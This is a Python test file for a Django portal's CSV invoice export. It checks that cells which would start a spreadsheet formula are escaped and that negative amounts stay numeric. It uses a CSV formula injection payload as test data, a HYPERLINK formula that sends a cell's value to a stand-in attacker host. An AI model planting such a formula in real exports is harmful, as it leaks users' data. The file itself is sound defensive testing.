"""The CSV export opens in a spreadsheet as data: text that would start a formula is escaped
(OWASP: a leading single quote), plain numbers such as -12.50 stay numbers."""
import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from portal.csv_export import csv_safe_cell, csv_writer
from tests.invoices.factories import line, make_invoice
from tests.portal.factories import BrandFactory, ClientFactory, MembershipFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open invoice")'


@pytest.mark.parametrize("text", [
    "=1+1", HYPERLINK, "+31 20 123 4567", "-A1", "-1+2", "-12.50e3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "=", "-", "+12", "-.5", "--12",
])
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_escaped(text):
    assert csv_safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-12.50"), "-12.50", "-12", Decimal("0.00"), 121, "2026-11-25"])
def test_plain_numbers_and_dates_stay_as_they_are(value):
    # -12.50 is a credit; written as '-12.50 a finance user could no longer add it up.
    assert csv_safe_cell(value) == str(value)


@pytest.mark.parametrize("text", ["INV-1", "PO =1", "a@b.test", "", "Ω-12", " =1+1"])
def test_text_that_does_not_start_a_formula_is_unchanged(text):
    assert csv_safe_cell(text) == text


def test_none_is_an_empty_cell():
    assert csv_safe_cell(None) == ""


def test_the_writer_escapes_every_cell_and_still_quotes_for_csv():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([["number", "amount"], [HYPERLINK, Decimal("-12.50")], ['say "hi", =1', "@x"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["number", "amount"], ["'" + HYPERLINK, "-12.50"], ['say "hi", =1', "'@x"]]


def test_the_invoice_export_escapes_text_from_accounting(db, client):
    brand = BrandFactory(is_default=True)
    alpha = ClientFactory(brand=brand, name="Alpha B.V.")
    owner = MembershipFactory(client=alpha, user__email="owner@alpha.test", user__language="en").user
    make_invoice(alpha, number="@INV-1", purchase_order=HYPERLINK, lines=[line(unit_price="100.00")])
    make_invoice(alpha, number="INV-2", purchase_order="-PO-7", lines=[line(unit_price="10.00")])
    client.force_login(owner)
    response = client.get(reverse("invoices:export_csv"))
    assert response.status_code == 200 and response.streaming  # sent as it is written, in flat memory
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {r["number"]: r for r in csv.DictReader(io.StringIO(body))}
    assert rows["'@INV-1"]["purchase_order"] == "'" + HYPERLINK
    assert rows["'@INV-1"]["total"] == "121.00" and rows["'@INV-1"]["open_balance"] == "121.00"
    assert rows["INV-2"]["purchase_order"] == "'-PO-7"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values())


def test_the_export_holds_what_the_search_finds(db, client):
    # The list's search (by number, purchase order or credit note number) narrows the export too.
    alpha = ClientFactory(brand=BrandFactory(is_default=True), name="Alpha B.V.")
    owner = MembershipFactory(client=alpha, user__email="owner@alpha.test", user__language="en").user
    make_invoice(alpha, number="INV-100", lines=[line(unit_price="100.00")])
    make_invoice(alpha, number="INV-200", purchase_order="ref-inv-1x", lines=[line(unit_price="10.00")])
    make_invoice(alpha, number="INV-300", lines=[line(unit_price="10.00")])
    make_invoice(ClientFactory(name="Beta B.V."), number="INV-101")  # another client's: never exported
    client.force_login(owner)
    response = client.get(reverse("invoices:export_csv"), {"q": "inv-1"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert sorted(r["number"] for r in csv.DictReader(io.StringIO(body))) == ["INV-100", "INV-200"]
